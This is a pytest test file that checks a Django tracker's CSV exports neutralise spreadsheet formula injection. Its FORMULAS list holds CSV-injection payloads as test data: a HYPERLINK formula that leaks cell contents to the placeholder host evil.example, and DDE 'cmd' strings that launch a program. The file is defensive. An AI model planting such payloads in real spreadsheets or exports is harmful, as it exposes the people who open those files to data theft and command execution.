"""CSV cells a spreadsheet would evaluate are neutralised (OWASP's CSV injection rule), in every CSV export."""

import csv
import datetime
import decimal
import io

import pytest
from django.test import Client

from tests.every_page import make_samples, pages
from tracker.csv_export import FORMULA_TRIGGERS, csv_cell, csv_lines

# Formulas that Excel, LibreOffice or Google Sheets evaluate when a CSV is opened.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def parsed(lines):
    return list(csv.reader(io.StringIO("".join(lines))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_starting_with_a_formula_trigger_is_written_as_text(formula):
    [_, row] = parsed(csv_lines(["promise"], [[formula]]))
    assert row == ["'" + formula]


def test_plain_text_and_triggers_inside_a_cell_are_left_alone():
    [_, row] = parsed(csv_lines(["a", "b", "c"], [["We will publish", "a = b + c", "mail@example.gov.uk"]]))
    assert row == ["We will publish", "a = b + c", "mail@example.gov.uk"]


def test_separators_quotes_and_line_breaks_cannot_start_a_new_cell():
    value = 'x",=1+1,"\n=2+2;@3'
    [_, row] = parsed(csv_lines(["a", "b"], [[value, "next"]]))
    assert row == [value, "next"]  # one cell, as written; the formula never begins a cell


def test_numbers_stay_numbers_even_negative_but_text_that_looks_like_one_is_text():
    [_, row] = parsed(csv_lines(["a", "b", "c", "d"], [[-3, 2.5, decimal.Decimal("-1.25"), "-3"]]))
    assert row == ["-3", "2.5", "-1.25", "'-3"]


def test_dates_none_and_booleans():
    assert csv_cell(datetime.date(2025, 4, 20)) == "2025-04-20"
    assert csv_cell(None) == ""
    assert csv_cell(True) == "yes"


def test_every_trigger_of_the_rule_is_covered():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
    for trigger in FORMULA_TRIGGERS:
        assert csv_cell(trigger + "x") == "'" + trigger + "x"


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
def test_every_csv_export_neutralises_formulas_in_every_free_text_field(settings, formula):
    """Every CSV page of tests/every_page.py, with a formula in every free-text field of the samples."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    samples = make_samples(text=lambda field: f"{formula} {field}")
    exports = pages(samples, content="csv")
    assert exports, "no CSV export listed in tests/every_page.py"
    for page in exports:
        client = Client()
        if page.user != "anonymous":
            client.force_login(samples.users[page.user])
        response = client.get(page.url)
        assert response.status_code == 200
        rows = parsed(b"".join(response.streaming_content).decode())
        cells = [cell for row in rows[1:] for cell in row]
        assert any(formula in cell for cell in cells), f"{page.id}: the samples' text is not in the export"
        dangerous = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
        assert not dangerous, f"{page.id} writes cells a spreadsheet evaluates: {dangerous}"
